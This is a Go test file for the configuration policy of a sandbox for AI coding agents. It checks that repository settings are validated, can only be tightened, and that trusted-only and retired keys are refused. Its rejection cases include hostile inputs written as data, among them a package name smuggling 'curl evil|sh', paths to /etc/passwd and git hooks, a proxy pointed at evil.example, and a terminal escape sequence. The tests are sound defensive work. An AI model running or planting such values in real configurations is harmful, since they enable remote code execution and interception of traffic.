package policy

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

// TestProjectOK: the repository may set each project-ok key to any valid value, and an invalid
// value is refused with the key named.
func TestProjectOK(t *testing.T) {
	ok := []struct {
		toml string
		want func(c *Config) any
		val  any
	}{
		{`cpus = 4`, func(c *Config) any { return c.CPUs }, 4},
		{`memory = "8GiB"`, func(c *Config) any { return c.Memory }, "8GiB"},
		{`disk = "50GiB"`, func(c *Config) any { return c.Disk }, "50GiB"},
		{`packages = ["git", "build-essential", "g++"]`, func(c *Config) any { return c.Packages }, []string{"git", "build-essential", "g++"}},
		{`provision = ["scripts/setup.sh"]`, func(c *Config) any { return c.Provision }, []string{"scripts/setup.sh"}},
		{`hide = ["secrets", "does/not/exist"]`, func(c *Config) any { return c.Hide }, []string{"secrets", "does/not/exist"}},
		{`box_dirs = ["node_modules"]`, func(c *Config) any { return c.BoxDirs }, []string{"node_modules"}},
		{`idle_stop = "45m"`, func(c *Config) any { return c.IdleStop }, 45 * time.Minute},
		{`default_agent = "claude --yolo"`, func(c *Config) any { return c.DefaultAgent }, "claude --yolo"},
		{`stop_on_exit = true`, func(c *Config) any { return c.StopOnExit }, true},
		{`golden = false`, func(c *Config) any { return c.Golden }, false},
		{`snapshot = true`, func(c *Config) any { return c.Snapshot }, true},
		{`snapshot = "auto"`, func(c *Config) any { return c.Snapshot }, true},
		{`snapshots_keep = 5`, func(c *Config) any { return c.SnapshotsKeep }, 5},
	}
	for _, tc := range ok {
		t.Run(tc.toml, func(t *testing.T) {
			f := newFixture(t)
			f.write("repo/scripts/setup.sh", "#!/bin/sh\n")
			f.repo(tc.toml + "\n")
			eff := f.mustLoad()
			if got := tc.want(eff.Config); !reflect.DeepEqual(got, tc.val) {
				t.Errorf("got %v, want %v", got, tc.val)
			}
			key, _, _ := strings.Cut(tc.toml, " ")
			if o := eff.Origins[key]; lookupKey(key).Kind != KindStrings && (o.Layer != LayerRepository || o.Line != 1) {
				t.Errorf("origin of %s = %v, want the repository file, line 1", key, o)
			}
		})
	}
	bad := []struct{ toml, key, problem string }{
		{`cpus = 5`, "cpus", "this host has 4"},
		{`cpus = 0`, "cpus", "between 1"},
		{`memory = "9GiB"`, "memory", "at most 8GiB"},
		{`memory = "4G"`, "memory", "must be a size"},
		{`disk = "101GiB"`, "disk", "at most 100GiB"},
		{`disk = "1TiB\n"`, "disk", "must be a size"},
		{`packages = ["git; curl evil|sh"]`, "packages", "invalid Debian package"},
		{`provision = ["../outside.sh"]`, "provision", "leaves the repository"},
		{`provision = ["/etc/passwd"]`, "provision", "absolute"},
		{`provision = [".git/hooks/pre-commit"]`, "provision", "git metadata"},
		{`provision = ["missing.sh"]`, "provision", "does not exist"},
		{`provision = ["link.sh"]`, "provision", "symlink"},
		{`provision = ["scripts"]`, "provision", "not a regular file"},
		{`hide = [".GIT"]`, "hide", "git metadata"},
		{`hide = ["a/../../b"]`, "hide", "leaves"},
		{`hide = ["out"]`, "hide", "outside the repository"},
		{`box_dirs = ["gitlink/x"]`, "box_dirs", "git metadata"},
		{`box_dirs = ["a\\b"]`, "box_dirs", "backslash"},
		{`idle_stop = "forever"`, "idle_stop", "duration"},
		{`idle_stop = "-1s"`, "idle_stop", "duration"},
		{`default_agent = "claude\u001b]0;x\u0007"`, "default_agent", "control character"},
		{`stop_on_exit = "yes"`, "stop_on_exit", "must be a boolean, not a string"},
		{`snapshot = "always"`, "snapshot", `must be true, false or one of "auto", "off", not "always"`},
	}
	for _, tc := range bad {
		t.Run("bad/"+tc.toml, func(t *testing.T) {
			f := newFixture(t)
			f.write("repo/scripts/setup.sh", "#!/bin/sh\n")
			if err := os.Symlink("/etc/passwd", filepath.Join(f.top, "link.sh")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(filepath.Dir(f.top), filepath.Join(f.top, "out")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(".git", filepath.Join(f.top, "gitlink")); err != nil {
				t.Fatal(err)
			}
			os.Mkdir(filepath.Join(f.top, ".git"), 0o755)
			f.repo(tc.toml + "\n")
			list := f.violations()
			if len(list) != 1 || list[0].Key != tc.key || !strings.Contains(list[0].Problem, tc.problem) {
				t.Errorf("want one violation of %q mentioning %q, got %v", tc.key, tc.problem, list)
			}
		})
	}
}

// TestProjectMayTighten: the repository may make each such key stricter or restate it, and is
// refused when it would loosen what the defaults or the global file set.
func TestProjectMayTighten(t *testing.T) {
	cases := []struct {
		global, repo string
		refused      bool
		key          string
	}{
		{``, `network = "broker"`, false, "network"},
		{``, `network = "offline"`, false, "network"},
		{`network = "broker"`, `network = "broker"`, false, "network"},
		{`network = "broker"`, `network = "full"`, true, "network"},
		{`network = "offline"`, `network = "broker"`, true, "network"},
		{``, `network = "none"`, true, "network"},
		{``, `profile = "strict"`, false, "profile"},
		{`profile = "locked"`, `profile = "strict"`, true, "profile"},
		{`profile = "strict"`, `profile = "standard"`, true, "profile"},
		{``, `readonly_project = true`, false, "readonly_project"},
		{``, `readonly_project = false`, false, "readonly_project"},
		{`readonly_project = true`, `readonly_project = false`, true, "readonly_project"},
		{``, `source = "clone"`, false, "source"},
		{`source = "clone"`, `source = "mount"`, true, "source"},
		{``, `no_env_passthrough = true`, false, "no_env_passthrough"},
		{`no_env_passthrough = true`, `no_env_passthrough = false`, true, "no_env_passthrough"},
		{``, `git_identity = "none"`, false, "git_identity"},
		{`git_identity = "corral"`, `git_identity = "host"`, true, "git_identity"},
		{``, `agent_state = "isolated"`, false, "agent_state"},
		{`agent_state = "seeded"`, `agent_state = "shared"`, true, "agent_state"},
		{`agent_state = "seeded"`, `agent_state = "seeded"`, false, "agent_state"},
		{``, `env = { RUST_BACKTRACE = "1" }`, false, "env.RUST_BACKTRACE"},
		{`env.A = "x"`, "[env]\nA = \"x\"", false, "env.A"},
		{`env.A = "x"`, "[env]\nA = \"y\"", true, "env.A"},
		{``, `env.HTTPS_PROXY = "http://evil.example:3128"`, true, "env.HTTPS_PROXY"},
		{``, `env.https_proxy = "http://evil.example:3128"`, true, "env.https_proxy"},
		{``, `env.CORRAL_BROKER = "x"`, true, "env.CORRAL_BROKER"},
		{``, `env."BAD-NAME" = "x"`, true, `env."BAD-NAME"`},
		{``, `env.A = 1`, true, "env.A"},
	}
	for _, tc := range cases {
		t.Run(tc.global+"|"+tc.repo, func(t *testing.T) {
			f := newFixture(t)
			if tc.global != "" {
				f.global(tc.global + "\n")
			}
			f.repo(tc.repo + "\n")
			eff, err := f.load()
			if !tc.refused {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				if o := eff.Origins[tc.key]; tc.global == "" && o.Layer != LayerRepository {
					t.Errorf("origin of %s is %v, want the repository file", tc.key, o)
				}
				return
			}
			list := f.violations()
			if len(list) != 1 || list[0].Key != tc.key {
				t.Fatalf("want one violation of %q, got %v", tc.key, list)
			}
			if lookupKey(strings.Split(tc.key, ".")[0]).Order != nil && !strings.Contains(list[0].Problem, "loosen") && !strings.Contains(list[0].Problem, "one of") {
				t.Errorf("violation does not say it loosens: %v", list[0])
			}
		})
	}
}

// TestTrustedOnly: every trusted-only key is refused from the repository, whatever its value,
// with the per-project file named as where it belongs, and accepted from the trusted files.
func TestTrustedOnly(t *testing.T) {
	for _, k := range Keys() {
		if k.Class != TrustedOnly {
			continue
		}
		t.Run(k.Name, func(t *testing.T) {
			f := newFixture(t)
			line := k.Name + " = " + k.Example + "\n"
			f.repo("cpus = 2\n" + line)
			list := f.violations()
			if len(list) != 1 || list[0].Key != k.Name || list[0].Line != 2 || list[0].Class != "trusted-only" {
				t.Fatalf("want one trusted-only violation of %q at line 2, got %v", k.Name, list)
			}
			if want := f.home.ProjectConfig(testBox); list[0].Belongs != want {
				t.Errorf("belongs = %q, want %q", list[0].Belongs, want)
			}
			os.Remove(filepath.Join(f.top, RepoFile))
			for _, write := range []func(string) string{f.global, f.project} {
				p := write(line)
				eff := f.mustLoad()
				if o := eff.Origins[k.Name]; k.Kind != KindStrings && k.Kind != KindStringMap && o.File != p {
					t.Errorf("origin %v, want %s", o, p)
				}
				os.Remove(p)
			}
		})
	}
}

// TestRetiredKey: protect_git_metadata is no longer a key (git metadata is always shadowed and
// verified; every profile floored it at true, so false never took effect): a file naming it, in
// any layer and with either value, is refused with what to do, not loaded and ignored. The
// control loads the same files without it.
func TestRetiredKey(t *testing.T) {
	for _, layer := range []string{"global", "repository", "project"} {
		for _, line := range []string{"protect_git_metadata = true", "protect_git_metadata = false"} {
			t.Run(layer+"/"+line, func(t *testing.T) {
				for _, retired := range []bool{true, false} {
					f := newFixture(t)
					body := "cpus = 1\n"
					if retired {
						body += line + "\n"
					}
					path := map[string]func(string) string{"global": f.global, "repository": f.repo, "project": f.project}[layer](body)
					_, err := f.load()
					if !retired {
						if err != nil {
							t.Fatalf("control without the key: %v", err)
						}
						continue
					}
					list := f.violations()
					if len(list) != 1 || list[0].Key != "protect_git_metadata" || list[0].File != path || list[0].Line != 2 ||
						!strings.Contains(list[0].Problem, "no longer a configuration key") || !strings.Contains(list[0].Why, "always shadowed") ||
						!strings.Contains(list[0].Why, "delete this line") {
						t.Fatalf("violations %+v: want protect_git_metadata at %s:2, no longer a key, saying why and what to do", list, path)
					}
				}
			})
		}
	}
	if lookupKey("protect_git_metadata") != nil || strings.Contains(Template(true), "protect_git_metadata") || strings.Contains(Template(false), "protect_git_metadata") {
		t.Error("protect_git_metadata is still in the key table or a configuration template")
	}
}
